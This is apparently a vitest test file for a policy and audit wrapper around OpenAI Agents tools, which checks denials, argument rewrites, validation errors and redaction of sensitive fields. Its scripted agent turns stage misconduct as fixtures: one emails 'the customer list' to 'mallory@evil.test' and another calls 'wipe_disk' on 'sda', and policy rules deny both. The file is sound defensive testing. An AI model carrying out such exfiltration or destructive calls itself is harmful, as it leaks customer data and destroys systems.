import { Agent, run, tool } from '@openai/agents';
import { ScriptedModel, assistantMessage, functionCall } from '@openai/agents/testing';
import { AuditConfigError, AuditDeniedError, deny, rewrite, sensitive, type PolicyRule } from '@tooltrail/core';
import { describe, expect, it } from 'vitest';
import { z } from 'zod';
import { auditOpenAIAgentsTool, isAuditedTool } from '../src/index.js';
import { alice, attemptsOf, harness, toolResults } from './helpers.js';

class MailboxFullError extends Error {}

const internalOnly: PolicyRule<{ to: string }> = (call) =>
  call.args.to.endsWith('@example.com') ? undefined : deny('external recipient', { rule: 'mail.internal-only' });

describe('auditOpenAIAgentsTool', () => {
  it('turns a denial, a validation failure and a tool error into results the model reads, and records each', async () => {
    const h = harness({ masking: false });
    const ran: string[] = [];
    const sendEmail = auditOpenAIAgentsTool(
      {
        name: 'send_email',
        description: 'Send an email',
        parameters: z.object({ to: z.string(), body: z.string() }),
        execute: async ({ to }) => {
          ran.push(`send_email ${to}`);
          return 'sent';
        },
      },
      { auditor: h.auditor, policy: [internalOnly as PolicyRule] },
    );
    const refund = auditOpenAIAgentsTool(
      {
        name: 'refund_order',
        description: 'Refund an order',
        parameters: z.object({ orderId: z.string(), amount: z.coerce.number().positive(), note: z.string().optional() }),
        execute: async ({ orderId }) => {
          ran.push(`refund_order ${orderId}`);
          return 'refunded';
        },
      },
      { auditor: h.auditor },
    );
    const archive = auditOpenAIAgentsTool(
      {
        name: 'archive_mail',
        description: 'Archive a mailbox',
        parameters: z.object({ box: z.string() }),
        execute: async () => {
          throw new MailboxFullError('mailbox full');
        },
      },
      { auditor: h.auditor },
    );
    const model = new ScriptedModel([
      [
        functionCall('send_email', { to: 'mallory@evil.test', body: 'the customer list' }, { callId: 'call_denied' }),
        functionCall('refund_order', { orderId: 'A-1', amount: 'lots', note: null }, { callId: 'call_invalid' }),
        functionCall('archive_mail', { box: 'support' }, { callId: 'call_error' }),
      ],
      [assistantMessage('I could not do any of that.')],
    ]);
    const agent = new Agent({ name: 'support-bot', instructions: 'Help.', model, tools: [sendEmail, refund, archive] });

    const result = await h.auditor.run(alice, () => run(agent, 'go'));
    expect(result.finalOutput).toBe('I could not do any of that.');
    expect(ran).toEqual([]);
    const read = toolResults(model.calls[1]?.request.input);
    expect(read.call_denied).toBe(
      'Error: the call to tool "send_email" was denied by policy rule mail.internal-only: external recipient. It was not executed. Do not retry it unchanged.',
    );
    // Only the real issue: the optional field sent as null is what strict mode does, not an error.
    expect(read.call_invalid).toMatch(/^Error: invalid arguments for tool "refund_order": amount: .+\. It was not executed\./);
    expect(read.call_invalid).not.toContain('note');
    expect(read.call_error).toBe('An error occurred while running the tool. Please try again.');

    const calls = await h.calls();
    const spans = await h.spans();
    expect(calls.get('call_denied')!.attributes).toMatchObject({
      'tooltrail.outcome': 'denied',
      'tooltrail.policy.rule': 'mail.internal-only',
      'gen_ai.tool.call.arguments': '{"to":"mallory@evil.test","body":"the customer list"}',
      'tooltrail.attempts': 0,
      'user.id': 'user:42',
    });
    const invalid = calls.get('call_invalid')!;
    expect(invalid.attributes).toMatchObject({
      'tooltrail.outcome': 'invalid',
      'error.type': 'tooltrail.invalid_arguments',
      'gen_ai.tool.call.arguments': '{"orderId":"A-1","amount":"lots","note":null}',
      'tooltrail.attempts': 0,
    });
    const issues = JSON.parse(String(invalid.attributes['tooltrail.validation.issues'])) as Array<{ path: unknown[] }>;
    expect(issues.map((i) => i.path)).toEqual([['amount']]);
    const failed = calls.get('call_error')!;
    expect(failed.attributes).toMatchObject({ 'tooltrail.outcome': 'error', 'error.type': 'MailboxFullError', 'tooltrail.attempts': 1 });
    expect(attemptsOf(spans, failed)).toHaveLength(0); // one attempt: no attempt record
    expect(attemptsOf(spans, invalid)).toHaveLength(0);
  });

  it('hands the tool body what policy rewrote, and records it beside the proposal', async () => {
    const h = harness({ masking: false });
    const got: unknown[] = [];
    const search = auditOpenAIAgentsTool(
      {
        name: 'search_orders',
        description: 'Search orders',
        parameters: z.object({ query: z.string(), limit: z.number().int().max(50) }),
        execute: async (args) => {
          got.push(args);
          return [];
        },
      },
      {
        auditor: h.auditor,
        policy: [(call) => rewrite({ ...(call.args as object), limit: 10 }, 'at most 10 rows per search', { rule: 'search.cap' })],
      },
    );
    const model = new ScriptedModel([[functionCall('search_orders', { query: 'late', limit: 50 }, { callId: 'call_1' })], [assistantMessage('ok')]]);
    const agent = new Agent({ name: 'support-bot', instructions: 'Help.', model, tools: [search] });
    await h.auditor.run(alice, () => run(agent, 'go'));
    expect(got).toEqual([{ query: 'late', limit: 10 }]);
    expect((await h.calls()).get('call_1')!.attributes).toMatchObject({
      'tooltrail.outcome': 'ok',
      'tooltrail.decision': 'rewrite',
      'tooltrail.policy.rule': 'search.cap',
      'gen_ai.tool.call.arguments': '{"query":"late","limit":10}',
      'tooltrail.arguments.proposed': '{"query":"late","limit":50}',
      'tooltrail.arguments.mutated': true,
    });
  });

  it('fails the run on a denial when asked to (onDenied: throw), and denies calls made outside a run', async () => {
    const h = harness();
    const make = (onDenied: 'message' | 'throw') =>
      auditOpenAIAgentsTool(
        { name: 'wipe_disk', description: 'Wipe a disk', parameters: z.object({ disk: z.string() }), execute: async () => 'wiped' },
        { auditor: h.auditor, onDenied, policy: [() => deny('never', { rule: 'ops.no-wipe' })] },
      );
    const script = () => new ScriptedModel([[functionCall('wipe_disk', { disk: 'sda' }, { callId: 'call_w' })], [assistantMessage('ok')]]);
    const throwing = new Agent({ name: 'ops-bot', instructions: 'Ops.', model: script(), tools: [make('throw')] });
    const error = await h.auditor.run(alice, () => run(throwing, 'go')).then(
      () => undefined,
      (e: unknown) => e,
    );
    expect(error).toBeInstanceOf(Error);
    expect(String((error as Error).message)).toContain('ops.no-wipe');
    expect((error as { error?: unknown }).error).toBeInstanceOf(AuditDeniedError);

    // No auditor.run(): no principal to attribute the call to, so it is denied and the model is told.
    const model = script();
    const outside = new Agent({ name: 'ops-bot', instructions: 'Ops.', model, tools: [make('message')] });
    await run(outside, 'go');
    expect(toolResults(model.calls[1]?.request.input).call_w).toContain('tooltrail.require-identity');
    const spans = (await h.spans()).filter((s) => s.name === 'execute_tool wipe_disk');
    expect(spans.map((s) => s.attributes['tooltrail.policy.rule'])).toEqual(['ops.no-wipe', 'tooltrail.require-identity']);
  });

  it('keeps the run identity through a streamed run, and the sensitive() marks of the parameters', async () => {
    const h = harness();
    const lookup = auditOpenAIAgentsTool(
      {
        name: 'lookup_order',
        description: 'Look up an order',
        parameters: z.object({ orderId: z.string(), pin: sensitive(z.string()) }),
        execute: async ({ orderId }) => `order ${orderId}: shipped`,
      },
      { auditor: h.auditor },
    );
    const model = new ScriptedModel([[functionCall('lookup_order', { orderId: 'A-1', pin: 'blue-7' }, { callId: 'call_s' })], [assistantMessage('shipped')]]);
    const agent = new Agent({ name: 'support-bot', instructions: 'Help.', model, tools: [lookup] });
    await h.auditor.run({ ...alice, runId: 'run-stream' }, async () => {
      const stream = await run(agent, 'where is A-1?', { stream: true });
      for await (const event of stream.toTextStream()) void event;
      await stream.completed;
      expect(stream.finalOutput).toBe('shipped');
    });
    const call = (await h.calls()).get('call_s')!;
    expect(call.attributes).toMatchObject({ 'tooltrail.outcome': 'ok', 'tooltrail.run.id': 'run-stream', 'user.id': 'user:42' });
    expect(call.attributes['gen_ai.tool.call.arguments']).toBe('{"orderId":"A-1","pin":"[REDACTED:sensitive]"}');
  });

  it('refuses a tool already made by tool(), and marks the ones it makes', () => {
    const made = tool({ name: 'x', description: 'x', parameters: z.object({}), execute: async () => 'x' });
    expect(() => auditOpenAIAgentsTool(made as never)).toThrow(AuditConfigError);
    expect(isAuditedTool(made)).toBe(false);
    expect(isAuditedTool(auditOpenAIAgentsTool({ name: 'x', description: 'x', parameters: z.object({}), execute: async () => 'x' }))).toBe(true);
  });
});
